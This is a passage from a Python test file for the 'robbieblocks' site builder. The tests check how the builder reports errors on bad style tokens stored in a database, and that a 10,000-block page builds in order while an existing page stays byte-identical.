        "INSERT INTO robbieblocks_style_tokens (token_key, token_category, default_value) VALUES (%s, 'color', %s) ON CONFLICT (token_key) DO UPDATE SET default_value = excluded.default_value",
        *(key, value),
    )
    try:
        report = site.build()
        said = "\n".join(str(p) for p in report.problems if p.severity == "error")
        assert error in said
        assert key.split(":")[0][:5] in said
        assert site.file("/good/").read_bytes() == live
    finally:
        site.sql("DELETE FROM robbieblocks_style_tokens WHERE token_key = %s", key)


def test_ten_thousand_blocks_beside_the_good_page(built: Built) -> None:
    """A page of 10,000 blocks is built whole, in order; the good page keeps its bytes."""
    site = built.site
    site.component("tiny", "export default ({ n }) => <i>{n}</i>;")
    site.page("many", "tiny")
    site.sql(
        """INSERT INTO robbieblocks_page_blocks (page_id, component_id, block_order, zone, props)
           SELECT page_id, component_id, n, 'main', jsonb_build_object('n', n)
             FROM robbieblocks_page_blocks b JOIN robbieblocks_components c ON c.id = component_id,
                  generate_series(2, 10000) n WHERE component_key = 'tiny'"""
    )
    # Tests before this one leave pages of theirs out: removing those needs approval.
    site.builder.build_approved()
    html = site.file("/many/").read_text()
    assert html.count("<i>") == 10_000
    assert html.index("<i>9999</i>") < html.index("<i>10000</i>")
    assert site.file("/good/").read_bytes() == built.before["good/index.html"]
